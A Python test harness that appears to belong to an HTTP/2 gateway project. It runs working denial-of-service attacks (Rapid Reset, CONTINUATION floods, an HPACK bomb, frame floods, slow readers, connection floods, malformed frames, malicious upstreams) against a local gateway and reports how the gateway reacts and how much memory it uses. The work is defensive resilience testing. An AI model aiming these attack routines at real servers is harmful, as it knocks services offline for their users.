#!/usr/bin/env python3
"""The attack suite: HTTP/2 attacks against a live `h2edge run`, one case at a time, while an honest
client on another connection keeps asking for answers. Loopback only, bounded in count and time.

    cargo build --release --bin h2edge --bin h2edge-loadtest-backend
    python3 loadtest/attack/run.py                               # every case, prints the table
    python3 loadtest/attack/run.py --only rapid-reset,hpack-bomb # some cases
    python3 loadtest/attack/run.py --write docs/security.md      # and regenerate its table
    python3 loadtest/attack/run.py --list

Set-up (loadtest/suite.py): compare.py's certificates; three h2edge echo backends (h2c) and nghttpd
(h2c, files /big/hello.txt, 256k.bin, 1m.bin, 16m.bin); the malicious upstreams of
loadtest/attack/evil.py; `h2edge run` with one worker, a TLS listener and an h2c listener.

Per case: the gateway's reaction as the attacker sees it (GOAWAY code, RST_STREAM codes, 4xx/5xx
answers, close), the time from the first attack byte to it, the gateway's peak RSS and CPU during
the case and its RSS after (from /proc), and the honest client's worst latency: it sends one request
at a time (GET /hello.txt to the echo backends, alternating with GET /big/hello.txt to nghttpd) on
its own TLS connection, reconnecting when it must, every 20 ms. A case fails when the honest client
saw a failure or waited more than --honest-max-ms, when the gateway's RSS grew by more than the
case's bound, when a case that requires a reaction got none, or when the gateway died.
Exit status 1 if any case failed.
"""

import argparse
import os
import select
import socket
import ssl
import sys
import time
from collections import Counter
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))
sys.path.insert(0, str(HERE))
import h2raw  # noqa: E402
import suite  # noqa: E402
from evil import Evil  # noqa: E402
from h2raw import frame, headers, data, request_block, lit  # noqa: E402

BASE_PORT = 19600
EVIL_PORTS = {m: BASE_PORT + 20 + i for i, m in enumerate(
    ["flood", "window-lie", "big-headers", "continuation", "data-flood", "no-read"])}


class Outcome:
    def __init__(self, reaction="none", t_react=None, note="", ok=True, why=""):
        self.reaction, self.t_react, self.note, self.ok, self.why = reaction, t_react, note, ok, why


def summarize(events, t0, extra=()):
    """'GOAWAY X; RST_STREAM Y x3; 431 x2; close' and the time of the first of them."""
    counts, first, order = Counter(), None, []
    for t, ev in list(events) + list(extra):
        if ev.startswith("close"):
            ev = "close"
        if ev not in counts:
            order.append(ev)
        counts[ev] += 1
        first = t if first is None else min(first, t)
    parts = [ev if counts[ev] == 1 else f"{ev} x{counts[ev]}" for ev in order]
    return ("; ".join(parts) or "none"), (None if first is None else first - t0)


def client(env, tls=False, **kw):
    c = h2raw.h2_client("127.0.0.1", env.tls_port if tls else env.h2c_port, tls=tls, **kw)
    c.pump(0.2, until=lambda: c.peer_settings)
    return c


def new_sid(c):
    sid = c.next_sid
    c.next_sid += 2
    return sid


def flood(env, batch, duration=5.0, tls=False, read=True, setup=None, small_rcvbuf=False, **kw):
    """Sends `batch(c)` again and again for `duration` s (reading what comes back when `read`),
    until the gateway sends GOAWAY or closes; then reads the rest for up to 2 s."""
    c = client(env, tls, **kw)
    if small_rcvbuf:
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    if setup:
        setup(c)
    t0 = time.monotonic()
    sent = stalled = 0
    while time.monotonic() - t0 < duration:
        if not c.send(batch(c), timeout=1.0):
            if c.closed:
                c.events.append((time.monotonic(), f"close ({c.closed})"))
                break
            stalled += 1
        else:
            sent += 1
        if read and (not c.pump(0) or c.goaway):
            break
    if stalled:
        c.events.append((t0 + duration, f"stopped reading ({stalled} s)"))
    if not c.closed:
        c.pump(2.0, until=lambda: c.goaway)
    c.close()
    r, t = summarize(c.events, t0)
    return Outcome(r, t, f"{sent} writes")


# ---------------------------------------------------------------------------------------------
# Client-side cases


def rapid_reset(env, a):
    blk = request_block("/hello.txt")

    def batch(c):
        out = bytearray()
        for _ in range(100):
            sid = new_sid(c)
            out += headers(sid, blk, end_stream=True) + h2raw.rst_stream(sid, h2raw.CANCEL)
        return bytes(out)
    return flood(env, batch)


def made_you_reset(env, a):
    blk = request_block("/hello.txt")

    def batch(c):
        out = bytearray()
        for i in range(100):
            sid = new_sid(c)
            # A zero WINDOW_UPDATE increment, or DATA after END_STREAM: stream errors the server
            # answers with RST_STREAM (RFC 9113 6.9, 5.1).
            bad = h2raw.window_update(sid, 0) if i % 2 else data(sid, b"x")
            out += headers(sid, blk, end_stream=True) + bad
        return bytes(out)
    return flood(env, batch)


def continuation_flood(env, a, zero=False):
    state = {}

    def setup(c):
        sid = new_sid(c)
        state["sid"] = sid
        c.send(frame(h2raw.HEADERS, 0, sid, request_block("/hello.txt")), timeout=1)

    def batch(c):
        payload = b"" if zero else lit("x-c", "a" * 40)
        return frame(h2raw.CONTINUATION, 0, state["sid"], payload) * 200
    return flood(env, batch, setup=setup)


def hpack_bomb(env, a):
    # One 4,000-byte value enters the dynamic table, then each request references it 4,000 times:
    # 4 KiB on the wire, 16 MB decoded.
    def setup(c):
        sid = new_sid(c)
        c.send(headers(sid, request_block("/hello.txt") + lit("x-bomb", "b" * 4000, index=True),
                       end_stream=True), timeout=1)

    def batch(c):
        return headers(new_sid(c), request_block("/hello.txt") + b"\xbe" * 4000, end_stream=True)
    return flood(env, batch, setup=setup)


def settings_flood(env, a):
    one = h2raw.settings([(h2raw.INITIAL_WINDOW_SIZE, 1 << 20)])
    return flood(env, lambda c: one * 2000, read=False, small_rcvbuf=True)


def ping_flood(env, a):
    one = h2raw.ping(b"12345678")
    return flood(env, lambda c: one * 2000, read=False, small_rcvbuf=True)


def priority_flood(env, a):
    def batch(c):
        base = c.next_sid
        c.next_sid += 2000
        return b"".join(h2raw.priority(base + 2 * i, 0, 16) for i in range(1000))
    return flood(env, batch)


def window_update_flood(env, a):
    one = h2raw.window_update(0, 1)
    return flood(env, lambda c: one * 2000)


def empty_data_flood(env, a):
    state = {}

    def setup(c):
        state["sid"] = c.request("/upload", method="POST", end=False)

    return flood(env, lambda c: data(state["sid"], b"") * 200, setup=setup)


def empty_headers_flood(env, a):
    def batch(c):
        return b"".join(headers(new_sid(c), b"", end_stream=False) for _ in range(100))
    return flood(env, batch)


def stream_limit(env, a):
    c = client(env)
    t0 = time.monotonic()
    blk = request_block("/hello.txt", method="POST")
    limit = c.peer_settings.get(h2raw.MAX_CONCURRENT_STREAMS, "?")
    out = b"".join(headers(new_sid(c), blk, end_stream=False) for _ in range(1000))
    c.send(out, timeout=2)
    c.pump(3.0, until=lambda: c.goaway)
    c.close()
    r, t = summarize(c.events, t0)
    return Outcome(r, t, f"1000 streams opened and left open; the gateway's limit: {limit}")


def hold_and_watch(conns, t0, hold):
    """Keeps reading (and answering PINGs) on every connection for `hold` s; returns the events."""
    end = t0 + hold
    while time.monotonic() < end:
        live = [c for c in conns if not c.closed]
        if not live:
            break
        for c in live:
            c.pump(0.01)
        time.sleep(0.05)
    events = [e for c in conns for e in c.events]
    return events


def zero_window(env, a):
    # Clients that open streams for 1 MiB files and never give the gateway any window.
    conns, t0 = [], time.monotonic()
    for _ in range(8):
        c = client(env, window=0, auto_window=False)
        out = bytearray()
        for _ in range(100):
            sid = c.request("/big/1m.bin", send=False)
            out += headers(sid, request_block("/big/1m.bin"), end_stream=True)
        c.send(bytes(out), timeout=2)
        conns.append(c)
    events = hold_and_watch(conns, t0, a.slow_hold)
    heads = sum(1 for c in conns for s in c.streams.values() if s.status)
    for c in conns:
        c.close()
    r, t = summarize(events, t0)
    return Outcome(r, t, f"8 connections x 100 streams of /big/1m.bin, window 0, held {a.slow_hold:.0f} s; "
                         f"{heads} response heads arrived")


def stop_reading(env, a):
    # Clients that open large windows, ask for 16 MiB files and stop reading the socket.
    conns, t0 = [], time.monotonic()
    for _ in range(4):
        c = client(env, window=16 << 20)
        c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        out = bytearray()
        for _ in range(32):
            sid = c.request("/big/16m.bin", send=False)
            out += headers(sid, request_block("/big/16m.bin"), end_stream=True)
        c.send(bytes(out) + h2raw.window_update(0, 0x7FFFFFFF - (16 << 20) - 65535), timeout=2)
        conns.append(c)
    time.sleep(a.slow_hold)
    # Now look at what the gateway did meanwhile: was the connection closed? (Its stream resets sit
    # behind megabytes of DATA this reader never took; tests/shared_upstream.rs reads them.)
    closed = 0
    for c in conns:
        try:
            c.sock.setblocking(False)
            while True:
                chunk = c.sock.recv(1 << 20)
                if not chunk:
                    closed += 1
                    break
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            closed += 1
        c.close()
    r = f"close x{closed}" if closed else "none seen"
    return Outcome(r, None, f"4 connections x 32 streams of /big/16m.bin, 16 MiB windows, socket not read "
                            f"for {a.slow_hold:.0f} s (the gateway resets the stalled streams after 30 s, "
                            f"but they queue behind the DATA this reader never takes)")


def upload_no_window(env, a):
    # Uploads of 16 MiB to the echo backend, whose echo can never come back (window 0).
    c = client(env, window=0, auto_window=False)
    t0 = time.monotonic()
    left = {}
    for _ in range(8):
        sid = c.request("/upload", method="POST", end=False)
        left[sid] = 16 << 20
    sent = 0
    while time.monotonic() - t0 < a.slow_hold and not c.closed:
        moved = 0
        for sid in list(left):
            n = c.send_body(sid, left[sid])
            left[sid] -= n
            moved += n
            if not left[sid]:
                del left[sid]
        sent += moved
        if not c.pump(0 if moved else 0.05):
            break
    c.close()
    r, t = summarize(c.events, t0)
    return Outcome(r, t, f"8 streams x 16 MiB POST, window 0; {sent / 2**20:.1f} MiB taken by the gateway "
                         f"in {a.slow_hold:.0f} s")


def idle_flood(env, a, tls, partial):
    """Connections that never send the preface (h2c) or stall mid-handshake (TLS)."""
    port = env.tls_port if tls else env.h2c_port
    socks, failed, t0 = [], 0, time.monotonic()
    # A TLS record header announcing a 512-byte ClientHello, and 10 of its bytes.
    stub = b"\x16\x03\x01\x02\x00" + b"\x01\x00\x01\xfc\x03\x03" + b"\x00" * 4
    for _ in range(a.idle_conns):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            if partial:
                s.sendall(stub)
            socks.append(s)
        except OSError:
            failed += 1
    opened = time.monotonic()
    closed_at = {}
    while time.monotonic() - t0 < a.hold and len(closed_at) < len(socks):
        r, _, _ = select.select([s for s in socks if s not in closed_at][:1000], [], [], 0.2)
        for s in r:
            try:
                if not s.recv(4096):
                    closed_at[s] = time.monotonic()
            except OSError:
                closed_at[s] = time.monotonic()
    for s in socks:
        s.close()
    n = len(closed_at)
    if n:
        ts = sorted(closed_at.values())
        r = f"close x{n}/{len(socks)}"
        t = ts[0] - t0
        note_t = f"; last closed after {ts[-1] - t0:.1f} s"
    else:
        r, t, note_t = "none", None, ""
    what = "stalled mid-TLS-handshake (10 bytes of a ClientHello)" if partial else \
        ("TLS connections that send nothing" if tls else "h2c connections that never send the preface")
    return Outcome(r, t, f"{len(socks)} {what}, {failed} refused, opened in {opened - t0:.1f} s, held "
                         f"{a.hold:.0f} s{note_t}")


def cancelled_downloads(env, a):
    # Each stream may receive 16 KiB (its window) of a 256 KiB file; it is cancelled at its first
    # DATA frame, so the rest of the file is left in the gateway or upstream, 20 streams at a time.
    t0 = time.monotonic()
    done = reconnects = 0
    events = []
    c = None
    stalled = False
    last_progress = time.monotonic()
    while done < 1000 and time.monotonic() - t0 < 30:
        if c is None or c.closed or c.goaway:
            if c is not None:
                events += c.events
                c.close()
                reconnects += 1
            c = client(env, window=16384, auto_window=False)
            c.send(h2raw.window_update(0, 1 << 30), timeout=1)
        for _ in range(20 - len(c.streams)):
            c.request("/big/256k.bin")
        try:
            fr = c.read_frame(0.05)
        except h2raw.Closed:
            c.events.append((time.monotonic(), f"close ({c.closed})"))
            continue
        if fr is None:
            if time.monotonic() - last_progress > 5:
                stalled = True
                break
            continue
        c.handle(fr)
        t, _, sid, p = fr
        s = c.streams.get(sid)
        if t == h2raw.DATA and p:
            c.send(h2raw.window_update(0, len(p)), timeout=1)
        if s is None:
            continue
        if t == h2raw.DATA and s.body > 0 and not s.ended:
            c.send(h2raw.rst_stream(sid, h2raw.CANCEL), timeout=1)
            done += 1
            last_progress = time.monotonic()
            del c.streams[sid]
        elif s.ended or s.reset is not None:
            del c.streams[sid]
    if c:
        events += c.events
        c.close()
    # Fresh downloads afterwards, each on its own connection: the whole 256 KiB must arrive.
    fresh = [env.get(p, timeout=3) for p in ["/big/256k.bin"] * 5 + ["/big/hello.txt", "/hello.txt"] * 2]
    bad = [f"{st} {body}B {why}" for st, dt, body, why in fresh if st != 200 or why]
    worst = max(dt for _, dt, _, _ in fresh)
    r, t = summarize(events, t0)
    out = Outcome(r, t, f"{done} downloads of /big/256k.bin cancelled after their first DATA (16 KiB "
                        f"stream window), {reconnects} reconnects"
                        + (", then no more DATA for 5 s" if stalled else "")
                        + f"; then 9 fresh GETs: {len(fresh) - len(bad)} complete, slowest {1000 * worst:.0f} ms")
    if stalled:
        out.ok, out.why = False, f"downloads stalled after {done} cancels"
    if bad:
        out.ok = False
        out.why = "; ".join(filter(None, [out.why, f"fresh GETs failed after the cancels: {', '.join(bad[:3])}"]))
    return out


# Single malformed inputs, each on a fresh connection: (name, bytes after the preface).
def _probes():
    blk = request_block("/hello.txt")
    big_value = lit("x-big", "v" * 100_000)
    many = request_block("/hello.txt") + b"".join(lit(f"x-f{i}", "v") for i in range(300))
    big_block = request_block("/hello.txt") + big_value
    split = frame(h2raw.HEADERS, 0, 1, big_block[:16384])
    rest = big_block[16384:]
    while rest:
        chunk, rest = rest[:16384], rest[16384:]
        split += frame(h2raw.CONTINUATION, 0 if rest else h2raw.END_HEADERS, 1, chunk)
    return [
        ("HPACK index out of range", headers(1, b"\xff\xff\xff\x0f", end_stream=True)),
        ("HPACK integer overflow", headers(1, b"\x7f" + b"\xff" * 12 + b"\x01", end_stream=True)),
        ("header list of 100 KB (CONTINUATION)", split),
        ("300 header fields", headers(1, many, end_stream=True)),
        ("uppercase header name", headers(1, blk + lit("X-Upper", "1"), end_stream=True)),
        ("connection-specific header", headers(1, blk + lit("connection", "keep-alive"), end_stream=True)),
        ("HEADERS on stream 0", headers(0, blk, end_stream=True)),
        ("HEADERS on an even stream", headers(2, blk, end_stream=True)),
        ("SETTINGS of 5 bytes", frame(h2raw.SETTINGS, 0, 0, b"\0" * 5)),
        ("SETTINGS_INITIAL_WINDOW_SIZE 2^31", h2raw.settings([(h2raw.INITIAL_WINDOW_SIZE, 1 << 31)])),
        ("connection window overflow", h2raw.window_update(0, 0x7FFFFFFF) * 2),
        ("DATA frame of 20,000 bytes (max 16,384)", headers(1, request_block("/hello.txt", "POST"))
         + data(1, b"d" * 20000)),
        ("HEADERS frame announcing 16 MiB", b"\xff\xff\xff\x01\x04\0\0\0\x01" + blk),
        ("PING of 7 bytes", frame(h2raw.PING, 0, 0, b"\0" * 7)),
        ("unknown frame type 0xee, 16 KiB (to be ignored: the request is answered)",
         frame(0xEE, 0, 1, b"\0" * 16384) + headers(1, blk, end_stream=True)),
    ]


def malformed(env, a):
    t0 = time.monotonic()
    rows, silent = [], []
    for name, payload in _probes():
        c = client(env)
        t = time.monotonic()
        c.streams[1] = h2raw.Stream(1)
        c.send(payload, timeout=2)
        c.pump(2.0, until=lambda: c.goaway or any(s.ended or s.reset is not None for s in c.streams.values()))
        c.pump(0.1)
        # A probe whose request was answered normally (200) got no reaction.
        s = c.streams[1]
        answered = [(s.done_at, f"answered {s.status}")] if s.ended and s.status and s.status < 400 else []
        r, dt = summarize(c.events, t, answered)
        c.close()
        rows.append((name, r, "-" if dt is None else f"{1000 * dt:.0f}"))
        ignore = "to be ignored" in name
        if r == "none" or (r.startswith("answered") != ignore):
            silent.append(name)
    malformed.probes = rows
    out = Outcome(f"{len(rows) - len(silent)}/{len(rows)} probes as expected (table below)", None,
                  f"{len(rows)} probes, one fresh connection each, {time.monotonic() - t0:.1f} s in all")
    if silent:
        out.ok, out.why = False, f"not as expected: {', '.join(silent)}"
    return out


# ---------------------------------------------------------------------------------------------
# Malicious upstreams: the trigger client sends requests routed to one of them.


def upstream_case(mode, uploads=False):
    def run(env, a):
        evil = env.evil_proc
        evil.clear()
        c = client(env, window=16 << 20)
        t0 = time.monotonic()
        left = {}
        for i in range(8 if uploads else 10):
            sid = c.request(f"/evil-{mode}/{i}", method="POST" if uploads else "GET", end=not uploads)
            if uploads:
                left[sid] = 8 << 20
        sent = 0
        while time.monotonic() - t0 < a.upstream_wait:
            for sid in list(left):
                n = c.send_body(sid, left[sid])
                left[sid] -= n
                sent += n
                if not left[sid]:
                    del left[sid]
            if not c.pump(0.05):
                break
            if not uploads and all(s.ended or s.reset is not None for s in c.streams.values()):
                break
        c.close()
        time.sleep(0.5)
        ev = evil.collect()
        up = [(t0 + t, f"upstream {what}") for m, t, what in ev if m == mode and what != "connection"
]
        conns = sum(1 for m, _, what in ev if m == mode and what == "connection")
        r, t = summarize(c.events, t0, up)
        statuses = Counter(s.status if s.status else (f"RST {h2raw.err_name(s.reset)}" if s.reset is not None
                                                      else "no answer") for s in c.streams.values())
        note = f"client saw: {', '.join(f'{k} x{v}' for k, v in statuses.items())}; {conns} upstream connections"
        if uploads:
            note += f"; {sent / 2**20:.1f} MiB uploaded"
        return Outcome(r, t, note)
    return run


# (name, title, function, reaction required, RSS growth bound in MiB)
CASES = [
    ("rapid-reset", "Rapid Reset (CVE-2023-44487): HEADERS + RST_STREAM x100 per write, 5 s", rapid_reset, True, 32),
    ("made-you-reset", "MadeYouReset (CVE-2025-8671): HEADERS + zero WINDOW_UPDATE / DATA after END_STREAM, 5 s",
     made_you_reset, True, 32),
    ("continuation", "CONTINUATION flood (CVE-2024-27316): 45-byte CONTINUATION frames without END_HEADERS",
     continuation_flood, True, 32),
    ("continuation-zero", "CONTINUATION flood of zero-length frames",
     lambda e, a: continuation_flood(e, a, zero=True), True, 32),
    ("hpack-bomb", "HPACK bomb: a 4,000-byte table entry referenced 4,000 times per request (16 MB decoded)",
     hpack_bomb, True, 32),
    ("settings-flood", "SETTINGS flood (CVE-2019-9515), socket not read", settings_flood, True, 32),
    ("ping-flood", "PING flood (CVE-2019-9512), socket not read", ping_flood, True, 32),
    ("priority-flood", "PRIORITY flood (CVE-2019-9513), 1,000 per write", priority_flood, False, 32),
    ("window-update-flood", "WINDOW_UPDATE flood: increment 1 on the connection, 2,000 per write",
     window_update_flood, True, 32),
    ("empty-data", "empty DATA frames (CVE-2019-9518) on an open stream", empty_data_flood, True, 32),
    ("empty-headers", "empty HEADERS blocks (CVE-2019-9516/9518) on new streams", empty_headers_flood, True, 32),
    ("stream-limit", "stream-limit abuse: 1,000 open streams at once", stream_limit, True, 32),
    ("zero-window", "zero-window slow readers: 800 streams of 1 MiB, window never opened", zero_window, True, 80),
    ("stop-reading", "slow readers that stop reading the TCP socket (128 x 16 MiB asked)", stop_reading, False, 80),
    ("upload-no-window", "uploads (8 x 16 MiB to the echo backend) with a never-opened receive window",
     upload_no_window, True, 80),
    ("preface-flood", "connection flood: connections that never send the preface (h2c)",
     lambda e, a: idle_flood(e, a, tls=False, partial=False), True, 48),
    ("tls-silent", "connection flood: TLS connections that send nothing",
     lambda e, a: idle_flood(e, a, tls=True, partial=False), True, 48),
    ("tls-stall", "connections stalled mid-TLS-handshake",
     lambda e, a: idle_flood(e, a, tls=True, partial=True), True, 48),
    ("cancelled-downloads", "cancelled downloads: RST_STREAM CANCEL after the first DATA of 256 KiB, x1000",
     cancelled_downloads, False, 48),
    ("malformed", "oversized and malformed frames and header blocks (15 probes)", malformed, True, 32),
    ("upstream-flood", "malicious upstream: PING + SETTINGS flood, never reads", upstream_case("flood"), True, 48),
    ("upstream-window-lie", "malicious upstream: WINDOW_UPDATE past 2^31-1", upstream_case("window-lie"), True, 32),
    ("upstream-big-headers", "malicious upstream: 1 MiB response header block", upstream_case("big-headers"),
     True, 32),
    ("upstream-continuation", "malicious upstream: endless zero-length CONTINUATION",
     upstream_case("continuation"), True, 32),
    ("upstream-data-flood", "malicious upstream: DATA beyond the gateway's window", upstream_case("data-flood"),
     True, 48),
    ("upstream-no-read", "malicious upstream that never reads: 8 x 8 MiB uploads routed to it",
     upstream_case("no-read", uploads=True), False, 80),
]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--h2edge", type=Path, default=suite.REPO / "target/release/h2edge")
    ap.add_argument("--backend-bin", type=Path, default=suite.REPO / "target/release/h2edge-loadtest-backend")
    ap.add_argument("--h2edge-env", action="append", default=[], metavar="VAR=VALUE")
    ap.add_argument("--only", default="", help="comma-separated case names (see --list)")
    ap.add_argument("--list", action="store_true")
    ap.add_argument("--write", type=Path, help="regenerate the attack table in this Markdown file")
    ap.add_argument("--hold", type=float, default=12.0, help="seconds idle connections hold on")
    ap.add_argument("--slow-hold", type=float, default=40.0,
                    help="seconds slow readers hold on: past the gateway's stream stall timeout (30 s)")
    ap.add_argument("--idle-conns", type=int, default=1000, help="connections per connection-flood case")
    ap.add_argument("--upstream-wait", type=float, default=8.0, help="seconds to wait for answers via evil upstreams")
    ap.add_argument("--honest-max-ms", type=float, default=500.0)
    ap.add_argument("--settle", type=float, default=1.0, help="seconds after a case before its 'RSS after'")
    ap.add_argument("--commit", help="the commit the binary was built from, for the report (default: this checkout's)")
    ap.add_argument("--scratch", type=Path, default=Path("/tmp/h2edge-loadtest"))
    a = ap.parse_args()
    if a.list:
        for name, title, *_ in CASES:
            print(f"{name:24} {title}")
        return
    only = [x for x in a.only.split(",") if x]
    unknown = set(only) - {c[0] for c in CASES}
    if unknown:
        sys.exit(f"unknown case(s): {', '.join(sorted(unknown))} (see --list)")
    for b in (a.h2edge, a.backend_bin):
        if not b.exists():
            sys.exit(f"{b} not found: cargo build --release --bin h2edge --bin h2edge-loadtest-backend")
    cases = [c for c in CASES if not only or c[0] in only]
    env = suite.Env(a, BASE_PORT, evil=EVIL_PORTS, name="attack")
    env.evil_proc = Evil(EVIL_PORTS)
    suite.log(f"gateway pid {env.pid}: TLS 127.0.0.1:{env.tls_port}, h2c 127.0.0.1:{env.h2c_port}; logs in {env.logs}")
    results = []
    try:
        for name, title, fn, need_reaction, rss_bound in cases:
            if not env.alive():
                suite.log("the gateway is gone: starting it again")
                env.restart_gateway()
            time.sleep(0.5)
            rss0 = suite.rss_kib(env.pid)
            with suite.Honest(env.tls_port, tls=True, paths=("/hello.txt", "/big/hello.txt")) as honest:
                with suite.Sampler(env.pid) as smp:
                    try:
                        out = fn(env, a)
                    except Exception as e:  # a case that breaks is reported, not fatal
                        out = Outcome("error", None, f"{e.__class__.__name__}: {e}", False, "the case itself failed")
                    time.sleep(0.3)
            h = honest.result
            died = not env.alive()
            time.sleep(a.settle)
            rss1 = suite.rss_kib(env.pid) if not died else 0
            fails = []
            if not out.ok:
                fails.append(out.why)
            if died:
                fails.append(f"gateway died (exit {env.gateway.returncode})")
            if h["fails"]:
                fails.append("honest client: " + ", ".join(f"{k} x{v}" for k, v in h["fails"].items()))
            if not h["max_ms"] <= a.honest_max_ms:
                fails.append(f"honest client waited {h['max_ms']:.0f} ms")
            growth = (smp.peak - rss0) / 1024
            if growth > rss_bound:
                fails.append(f"RSS grew {growth:.0f} MiB (bound {rss_bound})")
            if need_reaction and out.reaction in ("none", "error"):
                fails.append("no reaction")
            if not died:
                bad = [f"{p}: {why or st}" for p in ("/hello.txt", "/big/hello.txt")
                       for st, _, _, why in [env.get(p, timeout=2)] if st != 200 or why]
                if bad:
                    fails.append(f"gateway left unhealthy (fresh GET {', '.join(bad)}), restarted")
                    env.restart_gateway()
            row = dict(name=name, title=title, reaction=out.reaction,
                       t_react="-" if out.t_react is None else f"{1000 * out.t_react:,.0f}",
                       rss0=rss0 / 1024, peak=smp.peak / 1024, after=rss1 / 1024, cpu=smp.cpu_pct,
                       fds=smp.peak_fds, honest=h, ok=not fails, fails=fails, note=out.note, bound=rss_bound,
                       need=need_reaction)
            results.append(row)
            suite.log(f"{'PASS' if row['ok'] else 'FAIL'} {name}: {out.reaction} in {row['t_react']} ms; RSS "
                      f"{row['rss0']:.1f} -> peak {row['peak']:.1f} -> {row['after']:.1f} MiB; CPU {row['cpu']:.0f}%; "
                      f"honest max {h['max_ms']:.0f} ms (n={h['n']}); {out.note}"
                      + (f"; FAIL: {'; '.join(fails)}" if fails else ""))
    finally:
        env.evil_proc.stop()
        env.stop()
    text = report(a, results)
    print(text)
    if a.write:
        suite.write_section(a.write, "attack-suite", text)
        suite.log(f"wrote {a.write}")
    sys.exit(0 if all(r["ok"] for r in results) else 1)


def report(a, results):
    cmd = "python3 loadtest/attack/run.py" + (f" --only {a.only}" if a.only else "") + \
        (f" --write {a.write}" if a.write else "")
    lines = [f"Generated by `{cmd}` at commit {a.commit or suite.git_commit()} on {time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())} "
             f"(binary `{a.h2edge}`, one worker, {os.uname().release}). Honest client: one request at a time "
             f"every 20 ms on its own TLS connection, alternating GET /hello.txt (echo backends) and "
             f"GET /big/hello.txt (nghttpd); a case fails when it waits more than {a.honest_max_ms:.0f} ms "
             "or fails once, when RSS grows past the case's bound, when a reaction is required and none "
             "came, or when the gateway dies.", "",
             f"**{sum(r['ok'] for r in results)} of {len(results)} cases pass.**", ""]
    rows = []
    for r in results:
        h = r["honest"]
        rows.append([f"`{r['name']}`", r["title"], r["reaction"] + ("" if r["need"] else " (none required)"),
                     r["t_react"], f"{r['rss0']:.1f} / {r['peak']:.1f} / {r['after']:.1f} (≤ +{r['bound']})",
                     f"{r['cpu']:.0f}", r["fds"], f"{h['max_ms']:.0f} ({h['n']})",
                     "**pass**" if r["ok"] else "**FAIL**: " + "; ".join(r["fails"])])
    lines.append(suite.md_table(["case", "attack", "reaction seen by the attacker", "ms to reaction",
                                 "RSS MiB before / peak / after (bound)", "CPU %", "peak fds",
                                 "honest max ms (requests)", "result"], rows))
    lines += ["", "What each case did:", ""]
    lines += [f"- `{r['name']}`: {r['note']}" for r in results]
    probes = getattr(malformed, "probes", None)
    if probes:
        lines += ["", "The `malformed` probes, each on a fresh connection:", "",
                  suite.md_table(["probe", "reaction", "ms"], probes)]
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    main()
